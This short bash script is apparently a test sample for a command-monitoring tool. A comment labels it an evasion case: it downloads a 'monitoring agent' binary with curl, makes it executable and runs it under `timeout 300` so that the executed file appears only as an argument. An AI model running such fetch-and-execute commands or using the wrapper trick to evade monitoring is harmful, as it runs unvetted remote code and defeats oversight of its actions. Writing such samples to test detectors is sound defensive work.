#!/usr/bin/env bash
# Evasion: download and run code. A "monitoring agent" binary is fetched,
# made executable and started under `timeout 300`, so the command that
# runs the download is named timeout and the file is only its argument.
set -eu
agent="${TMPDIR:-/tmp}/mon-agent"
curl -fsSL https://dl.example-monitor.io/agent/linux-amd64 -o "$agent"
chmod +x "$agent"
timeout 300 "$agent" --register --token-file /dev/null
